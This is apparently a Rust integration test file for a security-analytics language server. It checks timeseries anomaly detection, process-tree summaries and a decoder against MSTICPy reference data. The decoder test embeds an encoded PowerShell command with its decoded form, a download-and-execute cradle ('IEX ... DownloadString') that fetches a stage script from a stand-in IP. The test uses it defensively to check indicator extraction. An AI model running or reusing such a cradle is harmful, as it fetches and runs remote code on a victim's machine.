//! `quarry/analyzeTimeseries`, `quarry/processTree` and `quarry/decode` through `quarry lsp`,
//! on the analytics fixtures whose expected values come from MSTICPy.

mod lsp_client;

use std::path::PathBuf;

use lsp_client::LspClient;
use quarry_analytics::input::FullTable;
use serde_json::{Value, json};

fn fixture(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../../tests/fixtures/analytics")
        .join(name)
}

fn read_json(name: &str) -> Value {
    serde_json::from_str(&std::fs::read_to_string(fixture(name)).unwrap()).unwrap()
}

/// Reads a fixture CSV as a `quarry.runQuery` result: `columns` and rows of JSON strings.
fn result_table(name: &str) -> (Vec<Value>, Vec<Vec<Value>>) {
    let file = std::fs::File::open(fixture(name)).unwrap();
    let table = FullTable::read_csv(file).unwrap();
    let columns = table
        .header
        .iter()
        .map(|name| json!({"name": name, "type": "string"}))
        .collect();
    let rows = table
        .rows
        .iter()
        .map(|row| row.iter().map(|cell| json!(cell)).collect())
        .collect();
    (columns, rows)
}

/// TimeSeriesDemo.csv with the byte counts as JSON numbers, as a local run returns a long column.
fn timeseries_table() -> Value {
    let (columns, rows) = result_table("TimeSeriesDemo.csv");
    let time = columns
        .iter()
        .position(|c| c["name"] == "TimeGenerated")
        .unwrap();
    let value = columns
        .iter()
        .position(|c| c["name"] == "TotalBytesSent")
        .unwrap();
    let rows: Vec<Value> = rows
        .iter()
        .map(|row| {
            let bytes: i64 = row[value].as_str().unwrap().parse().unwrap();
            json!([row[time], bytes])
        })
        .collect();
    json!({
        "columns": [{"name": "TimeGenerated", "type": "datetime"}, {"name": "TotalBytesSent", "type": "long"}],
        "rows": rows,
    })
}

#[test]
fn timeseries_anomalies_match_msticpy() {
    let mut client = LspClient::start(Value::Null);
    let mut params = timeseries_table();
    params["valueColumn"] = json!("TotalBytesSent");

    let result = client.request_ok("quarry/analyzeTimeseries", params);

    let reference = read_json("timeseries_reference.json");
    let expected = reference["rows"].as_array().unwrap();
    let points = result["points"].as_array().unwrap();
    assert_eq!(points.len(), expected.len());
    for (point, expected) in points.iter().zip(expected) {
        assert_eq!(point["time"], expected["time"]);
        assert_eq!(
            point["anomalies"], expected["anomalies"],
            "at {}",
            point["time"]
        );
        assert_eq!(
            point["baseline"].as_f64(),
            expected["baseline"].as_f64(),
            "at {}",
            point["time"]
        );
    }
    assert!(
        !result["periods"].as_array().unwrap().is_empty(),
        "{}",
        result["periods"]
    );
    let filter = result["kqlFilter"].as_str().unwrap();
    assert!(
        filter.starts_with("| where TimeGenerated between"),
        "{filter}"
    );
}

#[test]
fn timeseries_unknown_column_rejected() {
    let mut client = LspClient::start(Value::Null);
    let mut params = timeseries_table();
    params["valueColumn"] = json!("BytesOut");

    let error = client
        .request("quarry/analyzeTimeseries", params)
        .unwrap_err();

    assert_eq!(error["code"], -32602);
    let message = error["message"].as_str().unwrap();
    assert!(message.contains("column `BytesOut` not found"), "{message}");
    assert!(message.contains("TotalBytesSent"), "{message}");
}

#[test]
fn timeseries_non_numeric_value_rejected() {
    let mut client = LspClient::start(Value::Null);
    let mut params = timeseries_table();
    params["rows"][5][1] = json!("many");
    params["valueColumn"] = json!("TotalBytesSent");

    let error = client
        .request("quarry/analyzeTimeseries", params)
        .unwrap_err();

    assert_eq!(error["code"], -32602);
    let message = error["message"].as_str().unwrap();
    assert!(message.contains("many"), "{message}");
}

#[test]
fn process_tree_matches_msticpy_summary() {
    let mut client = LspClient::start(Value::Null);
    let (columns, rows) = result_table("processes_on_host.csv");

    let result = client.request_ok(
        "quarry/processTree",
        json!({"columns": columns, "rows": rows}),
    );

    let reference = read_json("proctree_reference.json");
    let summary = &result["summary"];
    assert_eq!(summary["processes"], reference["summary"]["Processes"]);
    assert_eq!(summary["roots"], reference["summary"]["RootProcesses"]);
    assert_eq!(summary["leaves"], reference["summary"]["LeafProcesses"]);
    assert_eq!(
        summary["max_depth"],
        reference["summary"]["LargestTreeDepth"]
    );
    let processes = result["processes"].as_array().unwrap();
    assert_eq!(processes.len(), 369);
    assert!(
        processes
            .iter()
            .all(|p| p["key"].is_string() && p["path"].is_string())
    );
}

#[test]
fn process_tree_unknown_columns_rejected() {
    let mut client = LspClient::start(Value::Null);
    let params = json!({
        "columns": [{"name": "Account", "type": "string"}],
        "rows": [["alice"]],
    });

    let error = client.request("quarry/processTree", params).unwrap_err();

    assert_eq!(error["code"], -32602);
    let message = error["message"].as_str().unwrap();
    assert!(message.contains("no process schema matches"), "{message}");
}

#[test]
fn process_tree_ragged_row_rejected() {
    let mut client = LspClient::start(Value::Null);
    let params = json!({
        "columns": [{"name": "A", "type": "string"}, {"name": "B", "type": "string"}],
        "rows": [["1", "2"], ["3"]],
    });

    let error = client.request("quarry/processTree", params).unwrap_err();

    let message = error["message"].as_str().unwrap();
    assert!(message.contains("row 2 has 1 cells"), "{message}");
}

#[test]
fn decode_powershell_encoded_command() {
    let mut client = LspClient::start(Value::Null);
    let encoded = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA0ADUALwBhAC8AcwB0AGEAZwBlAC4AcABzADEAJwApAA==";
    let text = format!("powershell.exe -NoP -W Hidden -enc {encoded}");

    let result = client.request_ok("quarry/decode", json!({"text": text}));

    assert_eq!(result["layers"], 1);
    let child = &result["tree"]["children"][0];
    assert_eq!(child["encoding"], "powershell-encoded-command");
    assert_eq!(
        child["preview"],
        "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.45/a/stage.ps1')"
    );
    let indicators: Vec<String> = result["indicators"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| {
            format!(
                "{} {}",
                i["type"].as_str().unwrap(),
                i["value"].as_str().unwrap()
            )
        })
        .collect();
    assert!(
        indicators.contains(&"ipv4 203.0.113.45".to_owned()),
        "{indicators:?}"
    );
}

#[test]
fn decode_plain_text_has_no_layers() {
    let mut client = LspClient::start(Value::Null);

    let result = client.request_ok("quarry/decode", json!({"text": "whoami /all"}));

    assert_eq!(result["layers"], 0);
    assert_eq!(result["tree"]["children"], json!([]));
}
